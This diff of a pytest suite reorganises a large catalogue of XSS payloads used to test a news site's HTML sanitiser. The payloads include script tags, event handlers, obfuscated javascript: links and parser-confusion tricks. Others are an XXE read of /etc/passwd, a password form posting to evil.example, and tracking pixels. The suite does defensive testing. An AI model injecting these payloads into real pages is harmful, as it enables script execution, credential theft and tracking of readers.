@@ -31,136 +31,145 @@ CLASSES = {
 GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
 
 # Each stands between two sentences of an honest report.
-SNIPPETS = [
-    # Scripts
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<script\x0c>alert(1)</script\n>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script/src=data:,alert(1)></script>",
-    '<script type="module">import("//evil.example")</script>',
-    "<<script>alert(1)//<</script>",
-    "<script><!--<script></script>--></script>",
-    "<img src='a' /><script>alert(1)</script x>",
-    # Handlers
-    "<p onclick=alert(1)>x</p>",
-    '<img src=x onerror="alert(1)">',
-    "<img/src=x/onerror=alert(1)>",
-    '<img src="x` `<script>alert(1)</script>"` `>',
-    "<p\nonmouseover\n=\nalert(1)>x</p>",
-    "<p ONFOCUS=alert(1) tabindex=0 autofocus>x</p>",
-    "<p/onpointerrawupdate='alert(1)'>x</p>",
-    '<a href="/" onclick="&#97;lert(1)">x</a>',
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)></audio>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<table onscroll=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
-    '<p title="a"onclick="alert(1)">x</p>',
-    "<p 'onclick=alert(1)'onclick=alert(1)>x</p>",
-    # Foreign schemes
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href=" \x01javascript:alert(1)">x</a>',
-    '<a href="java\tscr\nipt:alert(1)">x</a>',
-    '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
-    '<a href="&#0000106avascript:alert(1)">x</a>',
-    '<a href="javascript&NewLine;:alert(1)">x</a>',
-    '<a href="java&Tab;script:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<a href="blob:https://evil.example/1">x</a>',
-    '<a href="file:///etc/passwd">x</a>',
-    '<a href="view-source:javascript:alert(1)">x</a>',
-    '<a href="\u0085javascript:alert(1)">x</a>',
-    '<a href="ｊavascript:alert(1)" xlink:href="javascript:alert(1)">x</a>',
-    '<a href="/" target="_blank" rel="opener" ping="//evil.example">x</a>',
-    '<blockquote cite="javascript:alert(1)">x</blockquote>',
-    '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</table>',
-    '<img src="javascript:alert(1)">',
-    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
-    '<img src="data:text/html,<script>alert(1)</script>">',
-    '<img longdesc="javascript:alert(1)" src="x">',
-    # Other grammars in HTML
-    "<svg onload=alert(1)></svg>",
-    "<svg><script>alert&#40;1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
-    '<svg><foreignObject><iframe srcdoc="<script>a()</script>"></iframe></foreignObject></svg>',
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></a></style></svg>",
-    "<math><mtext><table><mglyph><style><img src onerror=a()></style></mglyph></table></math>",
-    '<math href="javascript:alert(1)">x</math>',
-    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><?php system('id') ?>",
-    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
-    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
-    # Frames, forms and what sits in a head
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "<iframe src=javascript:alert(1)></iframe>",
-    '<iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>',
-    "<frameset><frame src=javascript:alert(1)></frameset>",
-    '<object data="javascript:alert(1)"><param name="a" value="b"></object>',
-    '<embed src="//evil.example/x.swf" allowscriptaccess="always">',
-    "<applet code=x archive=//evil.example></applet>",
-    '<base href="//evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=//evil.example">',
-    '<link rel="stylesheet" href="//evil.example/x.css">',
-    "<link rel=import href=data:text/html,x>",
-    '<form action="//evil.example"><input name="mat-khau"><button>Đăng nhập</button></form>',
-    '<input type="image" src="//evil.example" formaction="javascript:alert(1)">',
-    "<isindex action=javascript:alert(1) type=submit>",
-    "<select><option><script>alert(1)</script></option></select>",
-    # Where two parsers may disagree
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    "<template><script>alert(1)</script></template>",
-    '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
-    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
-    "<noembed><img src=x onerror=alert(1)></noembed>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<!-- --!><img src=x onerror=alert(1)>-->",
-    "<!-- <p title='--><img src=x onerror=alert(1)>'> -->",
-    '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
-    "<a title='\"><script>alert(1)</script>' href='/'>x</a>",
-    '<a title="--></style></script><img src=x onerror=alert(1)>" href="/">x</a>',
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<p>+ADw-script+AD4-alert(1)</p>",
-    "<a href='/'><table><a href='javascript:alert(1)'>x</a></table></a>",
-    # Looks
-    '<p style="background:url(javascript:alert(1))">x</p>',
-    '<p style="width:expression(alert(1))">x</p>',
-    '<div style="position:fixed;inset:0;z-index:9999">x</div>',
-    '<p style="display:none">nổ hũ <a href="https://casino.example">tài xỉu</a></p>',
-    "<style>body{display:none}@import'//evil.example'</style>",
-    '<p class="site-header visually-hidden skip-link" id="noi-dung">x</p>',
-    '<p class="text-center&#10;site-header">x</p>',
-    '<figure class="figure--wide site-footer image">x</figure>',
-    '<a class="button" name="noi-dung" id="noi-dung" href="/">x</a>',
-    '<p id="noi-dung" slot="x" is="x-y" contenteditable data-photo="1" accesskey="x">x</p>',
-    "<table><tr><td colspan=1000000000 rowspan=-1 class='text-center fixed'>x</td></tr></table>",
-    "<font color=white size=1>x</font><center>y</center><blink>z</blink>",
-    # Pictures that tell another host who reads
-    '<img src="https://theo-doi.example/1.gif" width="1" height="1">',
-    "<img src=//theo-doi.example/1.gif>",
-    '<img src="/\\theo-doi.example/1.gif">',
-    '<img src="http://portal.example.evil.example/media/photos/2026/01/aaaaaaaaaaaaaaaaaaaa.jpg">',
-    '<img src="http://portal.example@evil.example/media/photos/2026/01/aaaaaaaaaaaaaaaaaaaa.jpg">',
-    '<img src="/media/photos/pasted/0">',  # where the server itself puts pasted pictures
-    '<img src="http://portal.example/media/photos/pasted/0">',
-    '<img src="/media/photos/pasted/x">',
-    '<img src="/tai-khoan/thoat/">',
-    '<img srcset="//theo-doi.example/1.gif 1x" src>',
-    '<picture><source srcset="//theo-doi.example/1.gif"><img></picture>',
-    '<figure><img src="//theo-doi.example/1.gif"><img src="//theo-doi.example/2.gif"></figure>',
-    '<figure data-photo="1"></figure>',
-    '<a title=\'<figure data-photo="1"></figure>\' href="/">x</a>',
-    '<video poster="//theo-doi.example/1.gif"></video>',
-]
+SNIPPETS = {
+    "scripts": [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+        "<script\x0c>alert(1)</script\n>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script/src=data:,alert(1)></script>",
+        '<script type="module">import("//evil.example")</script>',
+        "<<script>alert(1)//<</script>",
+        "<script><!--<script></script>--></script>",
+        "<img src='a' /><script>alert(1)</script x>",
+    ],
+    "handlers": [
+        "<p onclick=alert(1)>x</p>",
+        '<img src=x onerror="alert(1)">',
+        "<img/src=x/onerror=alert(1)>",
+        '<img src="x` `<script>alert(1)</script>"` `>',
+        "<p\nonmouseover\n=\nalert(1)>x</p>",
+        "<p ONFOCUS=alert(1) tabindex=0 autofocus>x</p>",
+        "<p/onpointerrawupdate='alert(1)'>x</p>",
+        '<a href="/" onclick="&#97;lert(1)">x</a>',
+        "<body onload=alert(1)>",
+        "<details open ontoggle=alert(1)><summary>x</summary></details>",
+        "<video><source onerror=alert(1)></video>",
+        "<audio src=x onerror=alert(1)></audio>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<table onscroll=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
+        '<p title="a"onclick="alert(1)">x</p>',
+        "<p 'onclick=alert(1)'onclick=alert(1)>x</p>",
+    ],
+    "schemes": [
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href="JaVaScRiPt:alert(1)">x</a>',
+        '<a href=" \x01javascript:alert(1)">x</a>',
+        '<a href="java\tscr\nipt:alert(1)">x</a>',
+        '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
+        '<a href="&#0000106avascript:alert(1)">x</a>',
+        '<a href="javascript&NewLine;:alert(1)">x</a>',
+        '<a href="java&Tab;script:alert(1)">x</a>',
+        '<a href="vbscript:msgbox(1)">x</a>',
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+        '<a href="blob:https://evil.example/1">x</a>',
+        '<a href="file:///etc/passwd">x</a>',
+        '<a href="view-source:javascript:alert(1)">x</a>',
+        '<a href="\u0085javascript:alert(1)">x</a>',
+        '<a href="ｊavascript:alert(1)" xlink:href="javascript:alert(1)">x</a>',
+        '<a href="/" target="_blank" rel="opener" ping="//evil.example">x</a>',
+        '<blockquote cite="javascript:alert(1)">x</blockquote>',
+        '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</table>',
+        '<img src="javascript:alert(1)">',
+        "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
+        '<img src="data:text/html,<script>alert(1)</script>">',
+        '<img longdesc="javascript:alert(1)" src="x">',
+    ],
+    "other grammars": [
+        "<svg onload=alert(1)></svg>",
+        "<svg><script>alert&#40;1)</script></svg>",
+        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+        '<svg><foreignObject><iframe srcdoc="<script>a()</script>"></iframe></foreignObject></svg>',
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></a></style></svg>",
+        "<math><mtext><table><mglyph><style><img src onerror=a()></style></mglyph></table></math>",
+        '<math href="javascript:alert(1)">x</math>',
+        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<?xml version='1.0'?><?php system('id') ?>",
+        "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
+        "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
+    ],
+    "frames, forms, heads": [
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+        "<iframe src=javascript:alert(1)></iframe>",
+        '<iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>',
+        "<frameset><frame src=javascript:alert(1)></frameset>",
+        '<object data="javascript:alert(1)"><param name="a" value="b"></object>',
+        '<embed src="//evil.example/x.swf" allowscriptaccess="always">',
+        "<applet code=x archive=//evil.example></applet>",
+        '<base href="//evil.example/">',
+        '<meta http-equiv="refresh" content="0;url=//evil.example">',
+        '<link rel="stylesheet" href="//evil.example/x.css">',
+        "<link rel=import href=data:text/html,x>",
+        '<form action="//evil.example"><input name="mat-khau"><button>Đăng nhập</button></form>',
+        '<input type="image" src="//evil.example" formaction="javascript:alert(1)">',
+        "<isindex action=javascript:alert(1) type=submit>",
+        "<select><option><script>alert(1)</script></option></select>",
+    ],
+    "parsers that disagree": [
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+        "<template><script>alert(1)</script></template>",
+        '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
+        '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+        '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
+        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+        "<noembed><img src=x onerror=alert(1)></noembed>",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+        "<!-- --!><img src=x onerror=alert(1)>-->",
+        "<!-- <p title='--><img src=x onerror=alert(1)>'> -->",
+        '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
+        "<a title='\"><script>alert(1)</script>' href='/'>x</a>",
+        '<a title="--></style></script><img src=x onerror=alert(1)>" href="/">x</a>',
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<p>+ADw-script+AD4-alert(1)</p>",
+        "<a href='/'><table><a href='javascript:alert(1)'>x</a></table></a>",
+    ],
+    "looks": [
+        '<p style="background:url(javascript:alert(1))">x</p>',
+        '<p style="width:expression(alert(1))">x</p>',
+        '<div style="position:fixed;inset:0;z-index:9999">x</div>',
+        '<p style="display:none">nổ hũ <a href="https://casino.example">tài xỉu</a></p>',
+        "<style>body{display:none}@import'//evil.example'</style>",
+        '<p class="site-header visually-hidden skip-link" id="noi-dung">x</p>',
+        '<p class="text-center&#10;site-header">x</p>',
+        '<figure class="figure--wide site-footer image">x</figure>',
+        '<a class="button" name="noi-dung" id="noi-dung" href="/">x</a>',
+        '<p id="noi-dung" slot="x" is="x-y" contenteditable data-photo="1" accesskey="x">x</p>',
+        "<table><tr><td colspan=1000000000 rowspan=-1 class='text-center fixed'>x</table>",
+        "<font color=white size=1>x</font><center>y</center><blink>z</blink>",
+    ],
+    "pictures that tell who reads": [
+        '<img src="https://theo-doi.example/1.gif" width="1" height="1">',
+        "<img src=//theo-doi.example/1.gif>",
+        '<img src="/\\theo-doi.example/1.gif">',
+        '<img src="http://portal.example.evil.example/media/photos/2026/01/aaaaaaaaaaaaaaaaaaaa.jpg">',
+        '<img src="http://portal.example@evil.example/media/photos/2026/01/aaaaaaaaaaaaaaaaaaaa.jpg">',
+        '<img src="/media/photos/pasted/0">',  # where the server itself puts pasted pictures
+        '<img src="http://portal.example/media/photos/pasted/0">',
+        '<img src="/media/photos/pasted/x">',
+        '<img src="/tai-khoan/thoat/">',
+        '<img srcset="//theo-doi.example/1.gif 1x" src>',
+        '<picture><source srcset="//theo-doi.example/1.gif"><img></picture>',
+        '<figure><img src="//theo-doi.example/1.gif"><img src="//theo-doi.example/2.gif"></figure>',
+        '<figure data-photo="1"></figure>',
+        '<a title=\'<figure data-photo="1"></figure>\' href="/">x</a>',
+        '<video poster="//theo-doi.example/1.gif"></video>',
+    ],
+}
+EVERY_SNIPPET = [snippet for snippets in SNIPPETS.values() for snippet in snippets]
 
 
 def is_harmless(link):
@@ -206,18 +215,18 @@ def warning_after(client, **fields):
     return " ".join(message.get_text(" ", strip=True) for message in messages)
 
 
-@pytest.mark.parametrize("snippet", SNIPPETS)
-def test_nothing_hostile_reaches_the_reader_and_no_word_is_lost(clerk, client, snippet):
+@pytest.mark.parametrize("snippets", SNIPPETS.values(), ids=SNIPPETS.keys())
+def test_nothing_hostile_reaches_the_reader_and_no_word_is_lost(clerk, client, snippets):
     make_photo(size=(90, 60))  # number 1, which a body must not be able to name
 
-    article = write_article(clerk, body=between(snippet))
+    for snippet in snippets:
+        body = body_of(client, write_article(clerk, body=between(snippet)))
 
-    body = body_of(client, article)
-    assert list(faults(body)) == []
-    text = body.get_text(" ")
-    assert "Câu trước." in text
-    assert "Câu sau." in text
-    assert not body.find("figure", recursive=True, attrs={"data-photo": True})
+        text = body.get_text(" ")
+        assert list(faults(body)) == [], snippet
+        assert "Câu trước." in text, snippet
+        assert "Câu sau." in text, snippet
+        assert not body.select("[data-photo]"), snippet
 
 
 @pytest.mark.parametrize(
@@ -248,13 +257,13 @@ def test_a_snippet_without_an_end_harms_nothing_before_it(clerk, client, snippet
 
 
 def test_cleaning_twice_is_cleaning_once():
-    once = [sanitise(between(snippet))[0] for snippet in SNIPPETS]
+    once = [sanitise(between(snippet))[0] for snippet in EVERY_SNIPPET]
 
     assert [sanitise(html)[0] for html in once] == once
 
 
 def test_a_stolen_account_finds_nothing_in_the_editor_either(clerk):
-    article = write_article(clerk, body=between("".join(SNIPPETS)))
+    article = write_article(clerk, body=between("".join(EVERY_SNIPPET)))
 
     page = clerk.get(f"/quan-tri/news/article/{article.pk}/change/")
     shown = BeautifulSoup(page.content, "html.parser").find("textarea", {"name": "body"}).text
@@ -263,7 +272,7 @@ def test_a_stolen_account_finds_nothing_in_the_editor_either(clerk):
 
 
 def test_saving_what_the_editor_shows_changes_nothing(clerk):
-    article = write_article(clerk, body=between("".join(SNIPPETS)))
+    article = write_article(clerk, body=between("".join(EVERY_SNIPPET)))
 
     page = clerk.get(f"/quan-tri/news/article/{article.pk}/change/")
     shown = BeautifulSoup(page.content, "html.parser").find("textarea", {"name": "body"}).text
@@ -433,9 +442,8 @@ def test_a_bomb_is_refused_with_a_reason_and_its_text_stays(clerk, bomb, about):
     answer = post_article(clerk, body=f"<p>Câu đã gõ.</p>{bomb}")
 
     assert answer.status_code == 422
-    page = BeautifulSoup(answer.content, "html.parser")
-    assert about in page.select_one(".field-body .errorlist").text
-    assert page.find("textarea", {"name": "body"}).text.strip().startswith("<p>Câu đã gõ.</p>")
+    assert about in answer.context["adminform"].form.errors["body"][0]
+    assert "&lt;p&gt;Câu đã gõ.&lt;/p&gt;" in answer.text
     assert not Article.objects.exists()
 
 
